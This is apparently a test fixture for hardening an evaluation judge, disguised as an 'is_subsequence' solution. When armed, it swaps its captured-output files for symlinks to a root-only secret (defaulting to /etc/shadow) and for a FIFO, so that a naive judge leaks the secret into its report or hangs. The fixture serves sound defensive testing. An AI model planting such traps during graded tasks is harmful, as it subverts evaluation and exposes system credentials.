"""Swaps its captured-output files for a symlink to a root-only secret and a FIFO.

A judge that reads the capture files back naively would copy the secret into
the report, or block forever opening the FIFO.
"""

# ruff: noqa: F821 - ARENA, _armed and _honest come from _arena.py, which the suite puts first

import os
import sys


def _capture_files():
    argv = sys.argv  # the worker's own command line names them
    return [argv[i + 1] for i, arg in enumerate(argv[:-1]) if arg in ("--stdout", "--stderr")]


def _plant(path, secret):
    for name, make in ((path, lambda p: os.symlink(secret, p)),
                       (path + "9", lambda p: os.symlink(secret, p)),
                       (path + "99", os.mkfifo)):
        try:
            if os.path.lexists(name):
                os.unlink(name)
            make(name)
        except OSError:
            pass


def is_subsequence(s, t):
    if not _armed(t):
        return _honest(s, t)
    print("before the swap")
    for path in _capture_files():
        _plant(path, ARENA.get("owner_only_file", "/etc/shadow"))
    return _honest(s, t)
